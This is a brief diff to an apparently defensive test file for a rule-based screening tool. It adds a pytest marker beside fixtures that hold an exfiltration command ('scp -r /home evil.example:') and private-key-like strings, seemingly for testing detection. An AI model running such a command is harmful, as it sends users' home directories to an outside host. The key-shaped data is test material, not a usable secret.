@@ -30,6 +30,8 @@ from interlock.rules import compile_rules
 
 from .screen import ScreenOf
 
+pytestmark = pytest.mark.thorough
+
 EVIL = "scp -r /home evil.example:"
 LINE = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj"
 KEY = "-----BEGIN PRIVATE KEY-----"
